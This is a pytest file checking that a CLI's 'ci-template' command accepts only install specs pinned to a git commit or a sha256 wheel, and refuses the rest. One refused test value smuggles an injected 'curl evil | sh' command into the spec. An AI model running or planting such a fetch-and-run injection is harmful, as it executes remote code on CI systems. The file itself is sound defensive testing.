"""`ci-template` installs formulactl in CI only from code the admin pinned when writing the
file (a git commit, or a wheel with its sha256), never by bare name from a package index."""

from __future__ import annotations

from pathlib import Path

import pytest

from conftest import Invoke
from formulactl.store.store import Store

COMMIT = "0123456789abcdef0123456789abcdef01234567"
SHA = "ab" * 32
WORKFLOWS = {"github": ".github/workflows/formulactl.yml", "gitlab": ".gitlab-ci.yml"}


@pytest.mark.parametrize("platform", ["github", "gitlab"])
def test_without_install_nothing_is_written(
    empty_store: Store, invoke: Invoke, platform: str
) -> None:
    done = invoke("ci-template", platform, cwd=empty_store.root)
    assert done.code == 2
    assert len(done.err.strip().splitlines()) == 1
    assert "no --install given" in done.err and "git+https://" in done.err
    assert not (empty_store.root / WORKFLOWS[platform]).exists()


@pytest.mark.parametrize(
    "spec",
    [
        "formulactl",
        "formulactl==1.0.0",
        "git+https://git.example.com/tools/formulactl.git@v1.0.0",
        "git+https://git.example.com/tools/formulactl.git",
        "git+http://git.example.com/tools/formulactl.git@" + COMMIT,
        "git+https://git.example.com/tools/formulactl.git@" + COMMIT + '"; curl evil | sh; "',
        "https://files.example.com/formulactl-1.0.0-py3-none-any.whl",
        "https://files.example.com/formulactl-1.0.0-py3-none-any.whl#md5=" + "a" * 32,
        "https://files.example.com/other-1.0.0-py3-none-any.whl#sha256=" + SHA,
        "/opt/wheels/formulactl-1.0.0-py3-none-any.whl#sha256=" + SHA,
        "../wheels/formulactl-1.0.0-py3-none-any.whl#sha256=" + SHA,
        "${FORMULACTL_SPEC:-formulactl}",
    ],
)
def test_an_unpinned_or_odd_install_spec_is_refused(
    empty_store: Store, invoke: Invoke, spec: str
) -> None:
    done = invoke("ci-template", "github", "--install", spec, cwd=empty_store.root)
    assert done.code == 2, done.out
    assert len(done.err.strip().splitlines()) == 1
    assert "is not pinned to exact code" in done.err
    assert not (empty_store.root / WORKFLOWS["github"]).exists()


@pytest.mark.parametrize(
    ("spec", "installed"),
    [
        (
            "git+https://git.example.com/tools/formulactl.git@" + COMMIT,
            "formulactl @ git+https://git.example.com/tools/formulactl.git@" + COMMIT,
        ),
        (
            "https://files.example.com/r/formulactl-1.2.0-py3-none-any.whl#sha256=" + SHA,
            "https://files.example.com/r/formulactl-1.2.0-py3-none-any.whl#sha256=" + SHA,
        ),
        (
            "ci/formulactl-1.2.0-py3-none-any.whl#sha256=" + SHA,
            "file://$PWD/ci/formulactl-1.2.0-py3-none-any.whl#sha256=" + SHA,
        ),
    ],
)
def test_a_pinned_spec_is_what_ci_installs(
    empty_store: Store, invoke: Invoke, spec: str, installed: str
) -> None:
    for platform, name in WORKFLOWS.items():
        done = invoke("ci-template", platform, "--install", spec, cwd=empty_store.root)
        assert done.code == 0, done.err
        workflow = (empty_store.root / name).read_text()
        assert f'pip install "{installed}"' in workflow
        assert "FORMULACTL_SPEC" not in workflow
        assert "--default-branch" in workflow
        assert workflow.count("pip install") == 1


def test_the_readme_names_what_install_accepts() -> None:
    readme = (Path(__file__).resolve().parent.parent / "README.md").read_text()
    assert "--install git+https://" in readme and ".whl#sha256=" in readme
